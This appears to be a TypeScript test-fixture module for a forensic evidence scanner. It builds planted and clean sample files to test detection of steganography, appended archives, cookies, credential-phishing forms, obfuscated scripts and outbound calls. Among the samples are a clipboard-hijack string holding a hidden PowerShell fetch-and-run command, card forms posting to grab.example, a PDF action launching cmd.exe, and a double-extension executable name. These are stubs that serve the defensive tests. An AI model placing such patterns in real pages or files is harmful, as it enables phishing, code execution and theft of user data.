import { type FileTraces, NO_TRACES } from '@fap/shared/evidence/file-traces.ts';
import type { EvidenceFile } from '@fap/shared/recondogs/cluster-evidence.ts';
import { makeDocx, makePdf, makeZip } from '../../src/areas/evidence/reading/testing/fixtures.ts';
import {
  asBmp,
  asLossy,
  asPng,
  drawPhotograph,
  hideInLowBits,
  randomBytes,
} from '../../src/areas/evidence/reading/testing/plant.ts';
import { traceFile } from '../../src/areas/evidence/reading/traces/trace-file.ts';

/** A file that is made for a case, and what it is called. */
export interface MadeFile {
  about: string;
  fileName: string;
  mimeType: string;
  bytes: Buffer;
  attachments?: { fileName: string; fileType: string; fileSize: number; sha256: string }[];
}

const WORDS = Buffer.from('Meet at the old pier and bring the second key with you tonight.');
const RGB = [0, 1, 2];
const ORDERS = [
  { channels: RGB, isHighFirst: true },
  { channels: RGB, isHighFirst: false },
  { channels: [2, 1, 0], isHighFirst: true },
  { channels: [0], isHighFirst: true },
  { channels: [2], isHighFirst: false },
];

const png = (about: string, bytes: Buffer): MadeFile => ({
  about,
  fileName: 'a.png',
  mimeType: 'image/png',
  bytes,
});
const jpeg = (about: string, bytes: Buffer): MadeFile => ({
  about,
  fileName: 'a.jpg',
  mimeType: 'image/jpeg',
  bytes,
});
const html = (about: string, body: string): MadeFile => ({
  about,
  fileName: 'page.html',
  mimeType: 'text/html',
  bytes: Buffer.from(`<html><head><title>t</title></head><body>${body}</body></html>`),
});
const har = (about: string, entries: unknown[]): MadeFile => ({
  about,
  fileName: 'visit.har',
  mimeType: 'application/json',
  bytes: Buffer.from(
    JSON.stringify({ log: { version: '1.2', creator: { name: 'B', version: '1' }, entries } }),
  ),
});
const pdf = (about: string, bytes: Buffer): MadeFile => ({
  about,
  fileName: 'a.pdf',
  mimeType: 'application/pdf',
  bytes,
});
const docx = (about: string, bytes: Buffer): MadeFile => ({
  about,
  fileName: 'a.docx',
  mimeType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
  bytes,
});

/** Files with hidden data, and the same kinds without any. */
export async function stegoFiles(): Promise<{ planted: MadeFile[]; clean: MadeFile[] }> {
  const zip = await makeZip({ 'list.txt': 'names and sums' });
  const photo = await drawPhotograph(1);
  const letter = await makePdf(['A letter to you']);
  const document = await makeDocx(['A letter'], 'https://example.org/');
  const secret = randomBytes(3, 40_000);
  const inOrders = await Promise.all(
    ORDERS.map(async (order, index) =>
      png(`words in low bits, order ${index + 1}`, await asPng(hideInLowBits(photo, WORDS, order))),
    ),
  );
  const [rgb] = ORDERS;
  if (!rgb) throw new Error('no order');
  return {
    planted: [
      ...inOrders,
      png('a zip in low bits', await asPng(hideInLowBits(photo, zip, rgb))),
      png('ciphertext in all low bits', await asPng(hideInLowBits(photo, secret, rgb))),
      png('ciphertext in a quarter', await asPng(hideInLowBits(photo, secret.subarray(0, 7_000), rgb))),
      png('ciphertext in a tenth', await asPng(hideInLowBits(photo, secret.subarray(0, 2_900), rgb))),
      {
        about: 'words in low bits of a BMP',
        fileName: 'a.bmp',
        mimeType: 'image/bmp',
        bytes: asBmp(hideInLowBits(photo, WORDS, rgb)),
      },
      png('a zip behind a PNG', Buffer.concat([await asPng(photo), zip])),
      jpeg('a zip behind a JPEG', Buffer.concat([await asLossy(photo, 'jpeg'), zip])),
      jpeg('text behind a JPEG', Buffer.concat([await asLossy(photo, 'jpeg'), WORDS])),
      {
        about: 'a RAR behind a GIF',
        fileName: 'a.gif',
        mimeType: 'image/gif',
        bytes: Buffer.concat([
          await asLossy(photo, 'gif'),
          Buffer.from('Rar!\x1a\x07\x00'),
          secret.subarray(0, 300),
        ]),
      },
      {
        about: 'ciphertext behind a WebP',
        fileName: 'a.webp',
        mimeType: 'image/webp',
        bytes: Buffer.concat([await asLossy(photo, 'webp'), secret.subarray(0, 300)]),
      },
      pdf('a zip behind a PDF', Buffer.concat([letter, zip])),
      pdf('ciphertext behind a PDF', Buffer.concat([letter, secret.subarray(0, 900)])),
      docx('ciphertext behind a DOCX', Buffer.concat([document, secret.subarray(0, 300)])),
      docx('a JPEG before a DOCX', Buffer.concat([await asLossy(photo, 'jpeg'), document])),
    ],
    clean: [
      ...(await Promise.all(
        [2, 3, 4, 5].map(async (seed) => png('a photograph', await asPng(await drawPhotograph(seed)))),
      )),
      ...(await Promise.all(
        [6, 7].map(async (seed) => ({
          about: 'a bitmap',
          fileName: 'a.bmp',
          mimeType: 'image/bmp',
          bytes: asBmp(await drawPhotograph(seed)),
        })),
      )),
      jpeg('a JPEG', await asLossy(photo, 'jpeg')),
      jpeg('a JPEG with zeros behind', Buffer.concat([await asLossy(photo, 'jpeg'), Buffer.alloc(512)])),
      jpeg(
        'a JPEG of a telephone with a second picture',
        Buffer.concat([await asLossy(photo, 'jpeg'), await asLossy(photo, 'jpeg')]),
      ),
      { about: 'a GIF', fileName: 'a.gif', mimeType: 'image/gif', bytes: await asLossy(photo, 'gif') },
      { about: 'a WebP', fileName: 'a.webp', mimeType: 'image/webp', bytes: await asLossy(photo, 'webp') },
      png(
        'a plain area',
        await asPng({ data: new Uint8Array(200 * 200 * 3).fill(255), width: 200, height: 200 }),
      ),
      png('a chequered area', await asPng(chequered())),
      pdf('a PDF', letter),
      pdf('a PDF with a line behind', Buffer.concat([letter, Buffer.from('\n\n')])),
      docx('a DOCX', document),
    ],
  };
}

function chequered() {
  const side = 200;
  const data = new Uint8Array(side * side * 3);
  for (let at = 0; at < side * side; at += 1)
    data.fill((at + Math.floor(at / side)) % 2 === 0 ? 84 : 85, at * 3, at * 3 + 3);
  return { data, width: side, height: side };
}

const visit = (url: string, more: Record<string, unknown> = {}, method = 'GET') => ({
  startedDateTime: '2026-03-01T10:00:00Z',
  request: { method, url, cookies: [], headers: [], ...(more.request as object) },
  response: {
    status: 200,
    content: { mimeType: 'text/html' },
    cookies: [],
    headers: [],
    ...(more.response as object),
  },
});

/** Recorded visits with cookies, and without. */
export const cookieFiles = (): { planted: MadeFile[]; clean: MadeFile[] } => ({
  planted: [
    har('listed by the recorder', [
      visit('https://shop.example/', { response: { cookies: [{ name: 'PHPSESSID', value: 'secret' }] } }),
    ]),
    har('in a header that sets it', [
      visit('https://shop.example/', {
        response: { headers: [{ name: 'Set-Cookie', value: '_ga=GA1.2.3; Path=/' }] },
      }),
    ]),
    har('in a header that sends it', [
      visit('https://shop.example/', { request: { headers: [{ name: 'cookie', value: 'sid=1; lang=en' }] } }),
    ]),
    har('of a third party', [
      visit('https://shop.example/'),
      visit('https://ads.other.example/p', { response: { cookies: [{ name: '_fbp', value: 'x' }] } }),
    ]),
  ],
  clean: [
    har('a visit without cookies', [visit('https://shop.example/')]),
    har('the word in an address', [visit('https://shop.example/cookies?cookie=1')]),
    html('a page about cookies', '<p>We use cookies. Set-Cookie: a=b</p>'),
  ],
});

/** Pages and visits whose forms ask for what nobody should give, and harmless forms. */
export const formFiles = (): { planted: MadeFile[]; clean: MadeFile[] } => ({
  planted: [
    html('card', '<form action="https://grab.example/p"><input name="cardNumber"><input name="cvv"></form>'),
    html('password by its type', '<form><input type="password" name="x1"></form>'),
    html(
      'seed phrase',
      '<form><textarea placeholder="Enter your 12 word recovery phrase"></textarea></form>',
    ),
    html('identity', '<form><input id="ssn"><input name="date_of_birth"></form>'),
    html('code', '<form><input autocomplete="one-time-code" name="otp"></form>'),
    html('bank', '<form><input name="iban"></form>'),
    har('a visit that sent a card', [
      visit(
        'https://grab.example/pay',
        { request: { postData: { params: [{ name: 'card-number', value: '4' }] } } },
        'POST',
      ),
    ]),
  ],
  clean: [
    html('search', '<form><input type="search" name="q"></form>'),
    html('newsletter', '<form><input name="email"><input name="first_name"></form>'),
    html('contact', '<form><textarea name="message"></textarea><input name="subject"></form>'),
    html('hidden token', '<form><input type="hidden" name="password_token"><input name="colour"></form>'),
    har('a visit that sent a search', [
      visit(
        'https://shop.example/s',
        { request: { postData: { params: [{ name: 'query', value: 'x' }] } } },
        'POST',
      ),
    ]),
  ],
});

const CLIPBOARD = 'navigator.clipboard.writeText("powershell -w hidden -c iex(iwr x)")';

/** Files whose code hides what it does or starts by itself, and honest code. */
export async function codeFiles(): Promise<{ planted: MadeFile[]; clean: MadeFile[] }> {
  const letter = await makePdf(['A letter']);
  const action = (body: string) =>
    Buffer.concat([letter, Buffer.from(`\n9 0 obj\n${body}\nendobj\n%%EOF\n`)]);
  const attached = (fileName: string): MadeFile => ({
    about: `a mail with ${fileName}`,
    fileName: 'mail.eml',
    mimeType: 'message/rfc822',
    bytes: Buffer.from('From: a@example.org\n\nx'),
    attachments: [{ fileName, fileType: 'application/octet-stream', fileSize: 1, sha256: '0' }],
  });
  return {
    planted: [
      html('encoded', '<script>eval(atob("YWxlcnQoMSk="))</script>'),
      html('written out of escapes', '<script>document.write(unescape("%3Cb%3E"))</script>'),
      html('packed', '<script>eval(function(p,a,c,k,e,d){return p}("0",1,1,"".split("|"),0,{}))</script>'),
      html(
        'renamed',
        `<script>${Array.from({ length: 14 }, (_, n) => `var _0x${(41_000 + n).toString(16)}=${n};`).join('')}</script>`,
      ),
      html('clipboard', `<script>${CLIPBOARD}</script>`),
      html('hidden frame', '<iframe src="https://other.example/x" width="1" height="1"></iframe>'),
      pdf('a script', action('<< /S /JavaScript /JS (app.alert(1)) >>')),
      pdf('a script by an escaped name', action('<< /S /J#61vaScript /JS (x) >>')),
      pdf('starts a program', action('<< /S /Launch /F (cmd.exe) >>')),
      docx('macros', await makeZip({ 'word/document.xml': '<w/>', 'word/vbaProject.bin': 'x' })),
      attached('invoice.pdf.exe'),
      attached('order.js'),
    ],
    clean: [
      html('a usual script', '<script>document.querySelector("b").textContent = "x"; fetch("/own")</script>'),
      html('copies a coupon', '<script>navigator.clipboard.writeText("SAVE10")</script>'),
      html('a frame that is seen', '<iframe src="https://maps.example/" width="400" height="300"></iframe>'),
      html('speaks of powershell', '<p>Open PowerShell and type eval(atob(x))</p>'),
      pdf('a letter', letter),
      pdf('a letter that opens at page one', action('<< /OpenAction [3 0 R /Fit] >>')),
      docx('a letter', await makeDocx(['A letter'], 'https://example.org/')),
      attached('invoice.pdf'),
      attached('photo.jpg'),
    ],
  };
}

/** Pages whose scripts call an interface, and pages that do not. */
export const callFiles = (): { planted: MadeFile[]; clean: MadeFile[] } => ({
  planted: [
    html('fetch', '<script>fetch("https://collect.example/api/take", {method:"POST"})</script>'),
    html('XMLHttpRequest', '<script>x.open("POST", "https://collect.example/gate.php")</script>'),
    html('a bot', '<script>const t="5912837465:AAHk3jd8s7Hs6dk2Jd8sk3Hs7dk2Js8dHsK"</script>'),
    har('a visit that posts', [visit('https://collect.example/v1/take', {}, 'POST')]),
  ],
  clean: [
    html('a call to itself', '<script>fetch("/own/data")</script>'),
    html('no script', '<p>Call us</p>'),
    har('a visit that only reads', [visit('https://shop.example/')]),
  ],
});

/** Pages with a counter in their scripts, and without. */
export const counterFiles = (): { planted: MadeFile[]; clean: MadeFile[] } => ({
  planted: [
    html('tag manager', '<script>gtag("config", "GTM-K7PX2QZ")</script>'),
    html('pixel', '<script>fbq("init", "291837465012345")</script>'),
    html('in an address', '<script src="https://www.googletagmanager.com/gtag/js?id=G-9XK2L4QWTR"></script>'),
  ],
  clean: [
    html('a number', '<script>const id = "291837465012345"</script>'),
    html('no counter', '<script src="https://cdn.example/jquery.js"></script>'),
  ],
});

/** A made file as units see it, its bytes looked through for real. */
export async function asEvidence(made: MadeFile, exhibit = 'file-1'): Promise<EvidenceFile> {
  const traces: FileTraces = await traceFile(made.bytes, made, {
    attachments: made.attachments ?? [],
    metadata: [],
  });
  return {
    ...PLAIN_FILE,
    exhibit,
    mimeType: made.mimeType,
    sha256: `${exhibit} ${made.about}`,
    properties: made.fileName.endsWith('.har') ? [{ name: 'Requests', value: '1' }] : [],
    traces,
  };
}

/** A file of which nothing is known. */
export const PLAIN_FILE: EvidenceFile = {
  exhibit: 'file-1',
  receivedAt: '2026-03-20T10:00:00.000Z',
  mimeType: 'text/plain',
  sha256: 'a',
  isRead: true,
  occurredOn: null,
  properties: [],
  attachments: [],
  look: null,
  structure: null,
  traces: NO_TRACES,
  elsewhere: { bytes: 0, look: 0, structure: 0 },
};
